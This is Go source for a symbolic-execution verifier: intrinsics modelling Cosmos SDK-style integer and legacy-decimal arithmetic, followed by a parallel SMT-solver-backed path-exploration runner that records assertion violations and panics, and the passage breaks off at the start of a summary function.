	P.reg(M+"MinInt", func(it *Interp, a []Value) Value { return nIntV(mkMin(it.intArg(a[0]), it.intArg(a[1]))) })
	P.reg(M+"MaxInt", func(it *Interp, a []Value) Value { return nIntV(mkMax(it.intArg(a[0]), it.intArg(a[1]))) })

	P.reg(I+"IsNil", func(it *Interp, a []Value) Value { return a[0].(IntV).Nil })
	P.reg(I+"BigInt", func(it *Interp, a []Value) Value {
		x := a[0].(IntV)
		if x.Nil {
			return (*Ptr)(nil)
		}
		return it.newBig(it.intVal(x))
	})
	P.reg(I+"BigIntMut", func(it *Interp, a []Value) Value {
		x := a[0].(IntV)
		if x.Nil {
			return (*Ptr)(nil)
		}
		if x.box == nil {
			panic(unsupported("BigIntMut on a math.Int without identity at " + it.where()))
		}
		if x.box.mut == nil {
			x.box.mut = it.newBig(x.V)
		}
		return x.box.mut
	})
	P.reg(I+"ToLegacyDec", func(it *Interp, a []Value) Value { return it.mkDecV(mkMul(it.intArg(a[0]), pow10_18)) })
	P.reg(I+"IsInt64", func(it *Interp, a []Value) Value {
		v := it.intArg(a[0])
		return mkAnd(mkCmp(">=", v, i64lo), mkCmp("<=", v, i64hi))
	})
	P.reg(I+"IsUint64", func(it *Interp, a []Value) Value {
		v := it.intArg(a[0])
		return mkAnd(mkCmp(">=", v, big.NewInt(0)), mkCmp("<=", v, u64hi))
	})
	P.reg(I+"Int64", func(it *Interp, a []Value) Value {
		v := it.intArg(a[0])
		it.panicIf(mkNot(mkAnd(mkCmp(">=", v, i64lo), mkCmp("<=", v, i64hi))), "Int64() out of bound")
		if s, ok := v.(*Sym); ok {
			return withRange(s, i64lo, i64hi)
		}
		return v
	})
	P.reg(I+"Uint64", func(it *Interp, a []Value) Value {
		v := it.intArg(a[0])
		it.panicIf(mkNot(mkAnd(mkCmp(">=", v, big.NewInt(0)), mkCmp("<=", v, u64hi))), "Uint64() out of bounds")
		if s, ok := v.(*Sym); ok {
			return withRange(s, zero0, u64hi)
		}
		return v
	})
	P.reg(I+"IsZero", func(it *Interp, a []Value) Value { return mkCmp("=", it.intArg(a[0]), big.NewInt(0)) })
	P.reg(I+"IsNegative", func(it *Interp, a []Value) Value { return mkCmp("<", it.intArg(a[0]), big.NewInt(0)) })
	P.reg(I+"IsPositive", func(it *Interp, a []Value) Value { return mkCmp(">", it.intArg(a[0]), big.NewInt(0)) })
	P.reg(I+"Sign", func(it *Interp, a []Value) Value { return mkSign(it.intArg(a[0])) })
	cmp := func(op string) Intrinsic {
		return func(it *Interp, a []Value) Value { return mkCmp(op, it.intArg(a[0]), it.intArg(a[1])) }
	}
	P.reg(I+"Equal", cmp("="))
	P.reg(I+"GT", cmp(">"))
	P.reg(I+"GTE", cmp(">="))
	P.reg(I+"LT", cmp("<"))
	P.reg(I+"LTE", cmp("<="))
	arith := func(f func(x, y Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value { return it.mkIntV(f(it.intArg(a[0]), it.intArg(a[1]))) }
	}
	arithRaw := func(f func(x, y Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value { return it.mkIntV(f(it.intArg(a[0]), a[1])) }
	}
	P.reg(I+"Add", arith(mkAdd))
	P.reg(I+"Sub", arith(mkSub))
	P.reg(I+"Mul", arith(mkMul))
	P.reg(I+"AddRaw", arithRaw(mkAdd))
	P.reg(I+"SubRaw", arithRaw(mkSub))
	P.reg(I+"MulRaw", arithRaw(mkMul))
	quo := func(it *Interp, x, y Value) Value {
		it.panicIf(mkCmp("=", y, big.NewInt(0)), "Division by zero")
		return mkQuoT(x, y)
	}
	P.reg(I+"Quo", func(it *Interp, a []Value) Value { return nIntV(quo(it, it.intArg(a[0]), it.intArg(a[1]))) })
	P.reg(I+"QuoRaw", func(it *Interp, a []Value) Value { return nIntV(quo(it, it.intArg(a[0]), a[1])) })
	P.reg(I+"Mod", func(it *Interp, a []Value) Value {
		x, y := it.intArg(a[0]), it.intArg(a[1])
		it.panicIf(mkCmp("=", y, big.NewInt(0)), "division by zero")
		return nIntV(mkModE(x, y))
	})
	P.reg(I+"ModRaw", func(it *Interp, a []Value) Value {
		x, y := it.intArg(a[0]), a[1]
		it.panicIf(mkCmp("=", y, big.NewInt(0)), "division by zero")
		return nIntV(mkModE(x, y))
	})
	safe := func(f func(x, y Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value {
			r := f(it.intArg(a[0]), it.intArg(a[1]))
			if s, ok := r.(*Sym); ok && !absBelow(s, maxInt256) {
				if it.branchOn(mkOr(mkCmp(">=", r, maxInt256), mkCmp("<=", r, new(big.Int).Neg(maxInt256)))) {
					return Tuple{IntV{Nil: true, V: big.NewInt(0)}, &ErrV{Root: "math/ErrIntOverflow", Msg: "Integer overflow"}}
				}
			} else if b, ok := r.(*big.Int); ok && new(big.Int).Abs(b).Cmp(maxInt256) >= 0 {
				return Tuple{IntV{Nil: true, V: big.NewInt(0)}, &ErrV{Root: "math/ErrIntOverflow", Msg: "Integer overflow"}}
			}
			return Tuple{nIntV(r), (*ErrV)(nil)}
		}
	}
	P.reg(I+"SafeAdd", safe(mkAdd))
	P.reg(I+"SafeSub", safe(mkSub))
	P.reg(I+"SafeMul", safe(mkMul))
	P.reg(I+"Neg", func(it *Interp, a []Value) Value { return nIntV(mkNeg(it.intArg(a[0]))) })
	P.reg(I+"Abs", func(it *Interp, a []Value) Value { return nIntV(mkAbs(it.intArg(a[0]))) })
	P.reg(I+"String", func(it *Interp, a []Value) Value {
		x := a[0].(IntV)
		if x.Nil {
			return "<nil>"
		}
		if b, ok := x.V.(*big.Int); ok {
			return b.String()
		}
		return SymStr{V: x.V}
	})
	P.reg(I+"Marshal", func(it *Interp, a []Value) Value {
		x := a[0].(IntV)
		if b, ok := x.V.(*big.Int); ok {
			bz, _ := b.MarshalText()
			return Tuple{it.mkBytes(bz), (*ErrV)(nil)}
		}
		return Tuple{&BlobV{Kind: "Int", V: x.V}, (*ErrV)(nil)}
	})
	P.reg(IP+"Unmarshal", func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		switch bz := a[1].(type) {
		case *BlobV:
			if bz.Kind != "Int" {
				return &ErrV{Root: "math/unmarshal", Msg: "not an Int encoding"}
			}
			// a stored Int is within range by the representation invariant of the encoder (Marshal of a valid Int)
			it.storeTo(p, nIntV(bz.V))
			return (*ErrV)(nil)
		case *SliceV:
			b := it.bytesOf(bz)
			if len(b) == 0 {
				return (*ErrV)(nil)
			}
			v, ok := new(big.Int).SetString(string(b), 10)
			if !ok {
				return &ErrV{Root: "math/unmarshal", Msg: "bad text"}
			}
			if v.BitLen() > 256 {
				return &ErrV{Root: "math/unmarshal", Msg: "integer out of range"}
			}
			it.storeTo(p, nIntV(v))
			return (*ErrV)(nil)
		}
		panic(unsupported("Int.Unmarshal of " + fmt.Sprintf("%T", a[1])))
	})
	P.reg(IP+"Size", func(it *Interp, a []Value) Value {
		x := it.load(a[0].(*Ptr)).(IntV)
		if b, ok := x.V.(*big.Int); ok {
			bz, _ := b.MarshalText()
			return big.NewInt(int64(len(bz)))
		}
		return it.blobLen(&BlobV{Kind: "Int", V: x.V})
	})

	// ---------------------------------------------------------------- LegacyDec
	P.reg(M+"LegacyNewDec", func(it *Interp, a []Value) Value { return DecV{V: mkMul(a[0], pow10_18)} })
	P.reg(M+"LegacyZeroDec", func(it *Interp, a []Value) Value { return DecV{V: big.NewInt(0)} })
	P.reg(M+"LegacyOneDec", func(it *Interp, a []Value) Value { return DecV{V: new(big.Int).Set(pow10_18)} })
	P.reg(M+"LegacySmallestDec", func(it *Interp, a []Value) Value { return DecV{V: big.NewInt(1)} })
	P.reg(M+"LegacyNewDecWithPrec", func(it *Interp, a []Value) Value {
		prec := asBig(a[1]).Int64()
		if prec < 0 || prec > 18 {
			panic(&GoPanic{Msg: "too much precision"})
		}
		return DecV{V: mkMul(a[0], new(big.Int).Exp(big.NewInt(10), big.NewInt(18-prec), nil))}
	})
	P.reg(M+"LegacyNewDecFromInt", func(it *Interp, a []Value) Value { return it.mkDecV(mkMul(it.intArg(a[0]), pow10_18)) })
	P.reg(M+"LegacyNewDecFromIntWithPrec", func(it *Interp, a []Value) Value {
		prec := asBig(a[1]).Int64()
		return it.mkDecV(mkMul(it.intArg(a[0]), new(big.Int).Exp(big.NewInt(10), big.NewInt(18-prec), nil)))
	})
	P.reg(M+"LegacyNewDecFromBigInt", func(it *Interp, a []Value) Value { return it.mkDecV(mkMul(it.bigVal(a[0]), pow10_18)) })
	P.reg(M+"LegacyNewDecFromBigIntWithPrec", func(it *Interp, a []Value) Value {
		prec := asBig(a[1]).Int64()
		return it.mkDecV(mkMul(it.bigVal(a[0]), new(big.Int).Exp(big.NewInt(10), big.NewInt(18-prec), nil)))
	})
	decFromStr := func(it *Interp, a []Value) Value {
		switch s := a[0].(type) {
		case SymStr:
			// decimal rendering of an integer: exact embedding (value * 10^18); the real function rejects > 315 bits
			v := mkMul(s.V, pow10_18)
			if sy, ok := v.(*Sym); ok && !absBelow(sy, maxDec315) {
				if it.branchOn(mkOr(mkCmp(">=", v, maxDec315), mkCmp("<=", v, new(big.Int).Neg(maxDec315)))) {
					return Tuple{DecV{Nil: true, V: big.NewInt(0)}, &ErrV{Root: "math/dec-range", Msg: "decimal out of range"}}
				}
			}
			return Tuple{DecV{V: v}, (*ErrV)(nil)}
		case string:
			v, err := parseDec(s)
			if err != "" {
				return Tuple{DecV{Nil: true, V: big.NewInt(0)}, &ErrV{Root: "math/dec-parse", Msg: err}}
			}
			return Tuple{DecV{V: v}, (*ErrV)(nil)}
		}
		panic(unsupported("LegacyNewDecFromStr on non-constant"))
	}
	P.reg(M+"LegacyNewDecFromStr", decFromStr)
	P.reg(M+"LegacyMustNewDecFromStr", func(it *Interp, a []Value) Value {
		t := decFromStr(it, a).(Tuple)
		if e, _ := t[1].(*ErrV); e != nil {
			panic(&GoPanic{Msg: e.Msg})
		}
		return t[0]
	})
	P.reg(M+"LegacyMaxDec", func(it *Interp, a []Value) Value { return DecV{V: mkMax(it.decArg(a[0]), it.decArg(a[1]))} })
	P.reg(M+"LegacyMinDec", func(it *Interp, a []Value) Value { return DecV{V: mkMin(it.decArg(a[0]), it.decArg(a[1]))} })

	P.reg(D+"IsNil", func(it *Interp, a []Value) Value { return a[0].(DecV).Nil })
	P.reg(D+"IsZero", func(it *Interp, a []Value) Value { return mkCmp("=", it.decArg(a[0]), big.NewInt(0)) })
	P.reg(D+"IsNegative", func(it *Interp, a []Value) Value { return mkCmp("<", it.decArg(a[0]), big.NewInt(0)) })
	P.reg(D+"IsPositive", func(it *Interp, a []Value) Value { return mkCmp(">", it.decArg(a[0]), big.NewInt(0)) })
	dcmp := func(op string) Intrinsic {
		return func(it *Interp, a []Value) Value { return mkCmp(op, it.decArg(a[0]), it.decArg(a[1])) }
	}
	P.reg(D+"Equal", dcmp("="))
	P.reg(D+"GT", dcmp(">"))
	P.reg(D+"GTE", dcmp(">="))
	P.reg(D+"LT", dcmp("<"))
	P.reg(D+"LTE", dcmp("<="))
	P.reg(D+"IsInteger", func(it *Interp, a []Value) Value {
		return mkCmp("=", mkModE(it.decArg(a[0]), pow10_18), big.NewInt(0))
	})
	P.reg(D+"Neg", func(it *Interp, a []Value) Value { return DecV{V: mkNeg(it.decArg(a[0]))} })
	P.reg(D+"Abs", func(it *Interp, a []Value) Value { return DecV{V: mkAbs(it.decArg(a[0]))} })
	P.reg(D+"Clone", func(it *Interp, a []Value) Value { return DecV{V: it.decArg(a[0])} })
	P.reg(D+"BigInt", func(it *Interp, a []Value) Value {
		x := a[0].(DecV)
		if x.Nil {
			return (*Ptr)(nil)
		}
		return it.newBig(x.V)
	})
	dar := func(f func(it *Interp, x, y Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value {
			return it.mkDecV(it.nameVal(f(it, it.decArg(a[0]), it.decArg(a[1]))))
		}
	}
	P.reg(D+"Add", dar(func(it *Interp, x, y Value) Value { return mkAdd(x, y) }))
	P.reg(D+"Sub", dar(func(it *Interp, x, y Value) Value { return mkSub(x, y) }))
	P.reg(D+"Mul", dar(func(it *Interp, x, y Value) Value { return chopRound(it.nameVal(mkMul(x, y))) }))
	P.reg(D+"MulTruncate", dar(func(it *Interp, x, y Value) Value { return chopTrunc(it.nameVal(mkMul(x, y))) }))
	P.reg(D+"MulRoundUp", dar(func(it *Interp, x, y Value) Value { return chopRoundUp(it.nameVal(mkMul(x, y))) }))
	dz := func(it *Interp, y Value) { it.panicIf(mkCmp("=", y, big.NewInt(0)), "division by zero") }
	P.reg(D+"Quo", dar(func(it *Interp, x, y Value) Value {
		dz(it, y)
		return chopRound(it.nameVal(mkQuoT(mkMul(x, pow10_36), y)))
	}))
	P.reg(D+"QuoTruncate", dar(func(it *Interp, x, y Value) Value {
		dz(it, y)
		return chopTrunc(it.nameVal(mkQuoT(mkMul(x, pow10_36), y)))
	}))
	P.reg(D+"QuoRoundUp", dar(func(it *Interp, x, y Value) Value {
		dz(it, y)
		return chopRoundUp(it.nameVal(mkQuoT(mkMul(x, pow10_36), y)))
	}))
	P.reg(D+"MulInt", func(it *Interp, a []Value) Value { return it.mkDecV(mkMul(it.decArg(a[0]), it.intArg(a[1]))) })
	P.reg(D+"MulInt64", func(it *Interp, a []Value) Value { return it.mkDecV(mkMul(it.decArg(a[0]), a[1])) })
	P.reg(D+"QuoInt", func(it *Interp, a []Value) Value {
		y := it.intArg(a[1])
		dz(it, y)
		return DecV{V: mkQuoT(it.decArg(a[0]), y)}
	})
	P.reg(D+"QuoInt64", func(it *Interp, a []Value) Value {
		dz(it, a[1])
		return DecV{V: mkQuoT(it.decArg(a[0]), a[1])}
	})
	P.reg(D+"TruncateInt", func(it *Interp, a []Value) Value { return it.mkIntV(chopTrunc(it.decArg(a[0]))) })
	P.reg(D+"RoundInt", func(it *Interp, a []Value) Value { return it.mkIntV(chopRound(it.decArg(a[0]))) })
	P.reg(D+"TruncateDec", func(it *Interp, a []Value) Value { return DecV{V: mkMul(chopTrunc(it.decArg(a[0])), pow10_18)} })
	P.reg(D+"TruncateInt64", func(it *Interp, a []Value) Value {
		v := chopTrunc(it.decArg(a[0]))
		it.panicIf(mkNot(mkAnd(mkCmp(">=", v, i64lo), mkCmp("<=", v, i64hi))), "Int64() out of bound")
		if s, ok := v.(*Sym); ok {
			return withRange(s, i64lo, i64hi)
		}
		return v
	})
	P.reg(D+"RoundInt64", func(it *Interp, a []Value) Value {
		v := chopRound(it.decArg(a[0]))
		it.panicIf(mkNot(mkAnd(mkCmp(">=", v, i64lo), mkCmp("<=", v, i64hi))), "Int64() out of bound")
		if s, ok := v.(*Sym); ok {
			return withRange(s, i64lo, i64hi)
		}
		return v
	})
	P.reg(D+"Ceil", func(it *Interp, a []Value) Value {
		x := it.nameVal(it.decArg(a[0]))
		// quo (truncated), +1 when the remainder is positive
		q := mkQuoT(x, pow10_18)
		r := mkRemT(x, pow10_18)
		return DecV{V: mkMul(mkIte(mkCmp(">", r, big.NewInt(0)), mkAdd(q, big.NewInt(1)), q), pow10_18)}
	})
	P.reg(D+"String", func(it *Interp, a []Value) Value {
		x := a[0].(DecV)
		if b, ok := x.V.(*big.Int); ok && !x.Nil {
			return decString(b)
		}
		return symStrMark + "dec"
	})
	P.reg(D+"Marshal", func(it *Interp, a []Value) Value {
		x := a[0].(DecV)
		return Tuple{&BlobV{Kind: "Dec", V: x.V}, (*ErrV)(nil)}
	})
	P.reg(DP+"Unmarshal", func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		if bz, ok := a[1].(*BlobV); ok && bz.Kind == "Dec" {
			it.storeTo(p, DecV{V: bz.V})
			return (*ErrV)(nil)
		}
		if s, ok := a[1].(*SliceV); ok && s.Len == 0 {
			return (*ErrV)(nil)
		}
		return &ErrV{Root: "math/unmarshal", Msg: "not a Dec encoding"}
	})
}

func parseDec(s string) (*big.Int, string) {
	if s == "" {
		return nil, "decimal string cannot be empty"
	}
	neg := false
	if s[0] == '-' {
		neg = true
		s = s[1:]
	}
	if s == "" {
		return nil, "decimal string cannot be empty"
	}
	parts := strings.Split(s, ".")
	intStr, frac := parts[0], ""
	switch len(parts) {
	case 1:
	case 2:
		frac = parts[1]
		if frac == "" {
			return nil, "invalid decimal length"
		}
	default:
		return nil, "invalid decimal string"
	}
	if len(frac) > 18 {
		return nil, "too much precision"
	}
	frac += strings.Repeat("0", 18-len(frac))
	v, ok := new(big.Int).SetString(intStr+frac, 10)
	if !ok {
		return nil, "failed to set decimal string"
	}
	if v.BitLen() > 315 {
		return nil, "decimal out of range"
	}
	if neg {
		v.Neg(v)
	}
	return v, ""
}

func decString(b *big.Int) string {
	neg := b.Sign() < 0
	x := new(big.Int).Abs(b)
	q, r := new(big.Int).QuoRem(x, pow10_18, new(big.Int))
	s := fmt.Sprintf("%s.%018s", q.String(), r.String())
	if neg {
		s = "-" + s
	}
	return s
}
