package gosym

import (
	"fmt"
	"io"
	"math/big"
	"os"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/tools/go/ssa"
)

type Violation struct {
	Harness string
	Msg     string
	Kind    string // "assert" | "panic"
	Model   map[string]string
	Where   string
	Trace   []int
	Params  map[string]string
}

// Run explores every path of one harness function.
type Run struct {
	P         *Program
	Harness   string
	Fn        *ssa.Function
	Params    map[string]string
	Workers   int
	MaxSteps  int64
	MaxPaths  int
	SolverKind string
	FallbackKind string
	TimeoutMs int
	FeasTimeoutMs int
	Log       io.Writer
	DumpDir   string
	MapOrder  bool
	ExtraCheck bool
	MaxViolations int  // stop exploring after this many counterexamples (0 = explore everything)
	StoppedEarly  bool

	mu          sync.Mutex
	queue       [][]int
	active      int
	cond        *sync.Cond
	Paths       int
	Steps       int64
	Obligations int
	Discharged  int
	Trivial     int
	Inconclusive []string
	Violations  []*Violation
	Reach       map[string]map[string]string
	ReachOrder  []string
	Notes       map[string]int
	Queries     map[string]int
	SolverTime  map[string]time.Duration
	Errors      []string
	PathEnds    map[string]int
	Funcs       map[string]string
	DischargedSamples []string
	bounded     bool
	TraceBudget int
	Pinned      map[string]string // concrete re-execution: harness inputs fixed to a model
	Traces      []*TraceSample
	Wall        time.Duration
	stop        bool
}

func (r *Run) note(s string) {
	r.mu.Lock()
	r.Notes[s]++
	r.mu.Unlock()
}
func (r *Run) countQuery(res string) {
	r.mu.Lock()
	if strings.HasPrefix(res, "error") {
		res = "error"
	}
	r.Queries[res]++
	r.mu.Unlock()
}
func (r *Run) enqueue(p []int) {
	r.mu.Lock()
	r.queue = append(r.queue, p)
	r.cond.Signal()
	r.mu.Unlock()
}
func (r *Run) addObligation() { r.mu.Lock(); r.Obligations++; r.mu.Unlock() }
func (r *Run) addTrivial()    { r.mu.Lock(); r.Trivial++; r.mu.Unlock() }
func (r *Run) addDischarged(what string) {
	r.mu.Lock()
	r.Discharged++
	if len(r.DischargedSamples) < 6 {
		r.DischargedSamples = append(r.DischargedSamples, what)
	}
	r.mu.Unlock()
}
func (r *Run) addInconclusive(s string) {
	r.mu.Lock()
	r.Inconclusive = append(r.Inconclusive, s)
	r.mu.Unlock()
}
func (r *Run) addViolation(v *Violation) {
	r.mu.Lock()
	r.Violations = append(r.Violations, v)
	r.mu.Unlock()
}
func (r *Run) haveReach(tag string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	_, ok := r.Reach[tag]
	return ok
}
func (r *Run) addReach(tag string, m map[string]string) {
	r.mu.Lock()
	if _, ok := r.Reach[tag]; !ok {
		r.Reach[tag] = m
		r.ReachOrder = append(r.ReachOrder, tag)
	}
	r.mu.Unlock()
}
func (r *Run) addFunc(name, hash string) {
	r.mu.Lock()
	if _, ok := r.Funcs[name]; !ok {
		r.Funcs[name] = hash
	}
	r.mu.Unlock()
}

// TraceSample is one complete path with a solver-chosen model and the values the encoding gives to observed outputs.
type TraceSample struct {
	Model map[string]string
	Obs   map[string]string
}

func (r *Run) wantTrace() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.TraceBudget > 0 {
		r.TraceBudget--
		return true
	}
	return false
}
func (r *Run) addTrace(t *TraceSample) {
	r.mu.Lock()
	r.Traces = append(r.Traces, t)
	r.mu.Unlock()
}

// fallback handles an obligation the primary solver could not decide: first the concretisation ladder looks for a
// concrete counterexample (cheap, model finding only), then the second solver gets a full-length attempt at a proof.
func (r *Run) fallback(it *Interp, bad Value, msg, kind string) bool {
	// a counterexample for this very assertion is already in hand: do not spend more solver time on siblings
	r.mu.Lock()
	for _, v := range r.Violations {
		if v.Msg == msg {
			r.mu.Unlock()
			return false
		}
	}
	r.mu.Unlock()
	if m := r.ladder(it, bad); m != nil {
		r.mu.Lock()
		r.Queries["ladder-sat"]++
		r.mu.Unlock()
		r.addViolation(&Violation{Harness: r.Harness, Msg: msg, Kind: kind, Model: m, Where: it.where(), Trace: append([]int{}, it.trace...), Params: it.params})
		panic(&pathEnd{why: "violation"})
	}
	if r.FallbackKind == "" {
		return false
	}
	s, err := StartSolver(r.FallbackKind, r.TimeoutMs)
	if err != nil {
		return false
	}
	defer s.Close()
	t0 := time.Now()
	s.Send(strings.Join(it.script, "\n") + "\n(assert " + T(bad) + ")\n")
	res := s.CheckSat()
	r.mu.Lock()
	r.Queries["fallback-"+res]++
	r.SolverTime[r.FallbackKind] += time.Since(t0)
	r.mu.Unlock()
	switch res {
	case "unsat":
		r.addDischarged(kind + ": " + msg + " (by " + r.FallbackKind + ")")
		it.assertPC(mkNot(bad))
		return true
	case "sat":
		var names []string
		for _, a := range it.anySyms {
			names = append(names, a.Name)
		}
		vals := s.GetValues(names)
		m := map[string]string{}
		for _, a := range it.anySyms {
			if v, ok := vals[a.Name]; ok {
				m[a.Tag] = v
			}
		}
		for k, v := range it.choices {
			m[k] = v
		}
		r.addViolation(&Violation{Harness: r.Harness, Msg: msg, Kind: kind, Model: m, Where: it.where(), Trace: append([]int{}, it.trace...), Params: it.params})
		panic(&pathEnd{why: "violation"})
	}
	return false
}

// ladder fixes input symbols one after the other to boundary / mid-range values until the solver can decide.
func (r *Run) ladder(it *Interp, bad Value) map[string]string {
	if r.DumpDir != "" {
		os.WriteFile(fmt.Sprintf("%s/unknown-%s-%d.smt2", r.DumpDir, r.Harness, len(it.trace)), []byte(Prelude+strings.Join(it.script, "\n")+"\n(assert "+T(bad)+")\n(check-sat)\n"), 0o644)
	}
	s, err := StartSolver(r.SolverKind, 2000)
	if err != nil {
		return nil
	}
	defer s.Close()
	rounds := 3
	for round := 0; round < rounds; round++ {
		s.Reset()
		s.Send(strings.Join(it.script, "\n") + "\n(assert " + T(bad) + ")\n")
		order := make([]anySym, 0, len(it.anySyms))
		// coefficients (decimals) first, then amounts, then the rest
		for _, k := range []string{"dec", "sdkint", "big", "uint32", "uint64", "int64"} {
			for _, a := range it.anySyms {
				if a.Kind == k && a.Sort == SInt {
					order = append(order, a)
				}
			}
		}
		for idx, a := range order {
			cands := ladderCandidates(a, round+idx)
			fixed := false
			for _, c := range cands {
				s.Send("(push 1)\n(assert (= " + a.Name + " " + lit(c) + "))\n")
				res := s.CheckSat()
				if res == "sat" {
					var names []string
					for _, x := range it.anySyms {
						names = append(names, x.Name)
					}
					vals := s.GetValues(names)
					m := map[string]string{}
					for _, x := range it.anySyms {
						if v, ok := vals[x.Name]; ok {
							m[x.Tag] = v
						}
					}
					for k, v := range it.choices {
						m[k] = v
					}
					return m
				}
				if res == "unknown" {
					fixed = true // keep this value and go on fixing the next symbol
					break
				}
				s.Send("(pop 1)\n")
			}
			if !fixed {
				break // every candidate of this symbol is infeasible under the previous choices: next round
			}
		}
	}
	return nil
}

func ladderCandidates(a anySym, rot int) []*big.Int {
	var c []*big.Int
	if a.Lo != nil && a.Hi != nil {
		mid := new(big.Int).Add(a.Lo, a.Hi)
		mid.Rsh(mid, 1)
		third := new(big.Int).Sub(a.Hi, a.Lo)
		third.Div(third, big.NewInt(3))
		third.Add(third, a.Lo)
		c = append(c, mid, a.Hi, third, a.Lo)
	}
	e18 := new(big.Int).Exp(big.NewInt(10), big.NewInt(18), nil)
	for _, v := range []*big.Int{e18, new(big.Int).Mul(e18, big.NewInt(7)), big.NewInt(1000003), big.NewInt(1), big.NewInt(0)} {
		if a.Lo != nil && v.Cmp(a.Lo) < 0 || a.Hi != nil && v.Cmp(a.Hi) > 0 {
			continue
		}
		c = append(c, v)
	}
	if len(c) == 0 {
		return c
	}
	rot = rot % len(c)
	return append(append([]*big.Int{}, c[rot:]...), c[:rot]...)
}

func NewRun(P *Program, pkgPath, fnName string, params map[string]string) (*Run, error) {
	sp := P.Pkgs[pkgPath]
	if sp == nil {
		return nil, fmt.Errorf("package %s not loaded", pkgPath)
	}
	fn := sp.Func(fnName)
	if fn == nil {
		return nil, fmt.Errorf("harness %s.%s not found", pkgPath, fnName)
	}
	r := &Run{P: P, Harness: fnName, Fn: fn, Params: params, Workers: 16, MaxSteps: 20_000_000, MaxPaths: 200000,
		SolverKind: "z3-new", FallbackKind: "z3", TimeoutMs: 60000, FeasTimeoutMs: 4000,
		Reach: map[string]map[string]string{}, Notes: map[string]int{}, Queries: map[string]int{}, SolverTime: map[string]time.Duration{},
		PathEnds: map[string]int{}, Funcs: map[string]string{}}
	r.cond = sync.NewCond(&r.mu)
	return r, nil
}

// Explore runs all paths.
func (r *Run) Explore() {
	t0 := time.Now()
	r.queue = [][]int{{}}
	var wg sync.WaitGroup
	for w := 0; w < r.Workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			s, err := StartSolver(r.SolverKind, r.TimeoutMs)
			if err != nil {
				r.mu.Lock()
				r.Errors = append(r.Errors, err.Error())
				r.mu.Unlock()
				return
			}
			if r.DumpDir != "" && w == 0 {
				f, _ := os.Create(fmt.Sprintf("%s/%s.w%d.smt2", r.DumpDir, r.Harness, w))
				if f != nil {
					s.Log = f
					defer f.Close()
				}
			}
			defer func() {
				r.mu.Lock()
				r.SolverTime[r.SolverKind] += s.Time
				r.mu.Unlock()
				s.Close()
			}()
			for {
				r.mu.Lock()
				for len(r.queue) == 0 && r.active > 0 && !r.stop {
					r.cond.Wait()
				}
				if len(r.queue) == 0 || r.stop {
					r.mu.Unlock()
					r.cond.Broadcast()
					return
				}
				// depth-first: take the most recently queued prefix
				p := r.queue[len(r.queue)-1]
				r.queue = r.queue[:len(r.queue)-1]
				r.active++
				r.Paths++
				if r.Paths > r.MaxPaths {
					r.stop = true
					r.bounded = true
				}
				// enough counterexamples to report: the verdict is "violated" whatever the remaining paths say
				if r.MaxViolations > 0 && len(r.Violations) >= r.MaxViolations {
					r.stop = true
					r.StoppedEarly = true
				}
				r.mu.Unlock()
				r.runPath(s, p)
				r.mu.Lock()
				r.active--
				r.mu.Unlock()
				r.cond.Broadcast()
			}
		}(w)
	}
	wg.Wait()
	r.Wall = time.Since(t0)
}

func (r *Run) runPath(s *Solver, prefix []int) {
	if s.dead {
		ns, err := StartSolver(r.SolverKind, r.TimeoutMs)
		if err != nil {
			r.mu.Lock()
			r.Errors = append(r.Errors, "solver restart failed: "+err.Error())
			r.mu.Unlock()
			return
		}
		*s = *ns
	}
	s.Reset()
	it := &Interp{P: r.P, R: r, solver: s, prefix: prefix, globals: map[*ssa.Global]*Cell{}, inited: map[*ssa.Package]bool{},
		tagSeen: map[string]int{}, params: r.Params, mapOrder: r.MapOrder, store: map[string]Value{}, initTouched: map[*Cell]bool{}, choices: map[string]string{}}
	end := "returned"
	func() {
		defer func() {
			if x := recover(); x != nil {
				switch e := x.(type) {
				case *pathEnd:
					end = e.why
				case *GoPanic:
					if it.allowPanic {
						end = "panic(allowed)"
						return
					}
					end = "panic"
					it.handleTopPanic(e)
				case *Unsupported:
					end = "unsupported"
					r.mu.Lock()
					msg := e.Error() + "\n    " + strings.Join(e.Stack, "\n    ")
					dup := false
					for _, x := range r.Errors {
						if x == msg {
							dup = true
						}
					}
					if !dup && len(r.Errors) < 8 {
						r.Errors = append(r.Errors, msg)
					}
					r.mu.Unlock()
				default:
					panic(x)
				}
			}
		}()
		it.callFunction(r.Fn, nil, nil, nil)
		it.sampleTrace()
	}()
	if strings.HasPrefix(end, "BOUND-EXCEEDED") {
		r.mu.Lock()
		r.bounded = true
		r.mu.Unlock()
	}
	r.mu.Lock()
	r.PathEnds[end]++
	r.Steps += it.steps
	r.mu.Unlock()
}

// handleTopPanic: an uncaught Go panic on a feasible path is a violation unless the harness allowed it.
func (it *Interp) handleTopPanic(e *GoPanic) {
	defer func() {
		if x := recover(); x != nil {
			if _, ok := x.(*pathEnd); ok {
				return
			}
			panic(x)
		}
	}()
	it.R.addObligation()
	it.flush()
	res := it.solver.CheckSat()
	it.R.countQuery(res)
	if res == "unsat" {
		it.R.addDischarged("panic on infeasible path: " + e.Msg)
		return
	}
	if res != "sat" {
		it.R.addInconclusive("panic path with undecided feasibility: " + e.Msg + " at " + e.Where)
		return
	}
	// A Go *runtime* error (nil dereference, index out of range ...) raised inside a dependency - typically SDK keeper code
	// running on the zero-value keeper a harness did not stub - says something about the harness, not about the code under
	// test: inconclusive, never a verdict. Runtime errors raised in the repository's own code, and explicit panic(...) calls
	// anywhere, stay violations.
	if strings.HasPrefix(e.Msg, "runtime error:") && (!strings.Contains(e.Where, "("+it.P.RepoDir+"/") || strings.Contains(e.Where, "("+it.P.RepoDir+"/zzverif/")) {
		it.R.addInconclusive("runtime panic inside a dependency (a keeper the harness does not stub?): " + e.Msg + " at " + e.Where)
		return
	}
	m := it.model()
	it.R.addViolation(&Violation{Harness: it.R.Harness, Msg: "panic: " + e.Msg, Kind: "panic", Model: m, Where: e.Where, Trace: append([]int{}, it.trace...), Params: it.params})
}

func (r *Run) Bounded() bool { return r.bounded }

func (r *Run) Summary() string {
	var sb strings.Builder
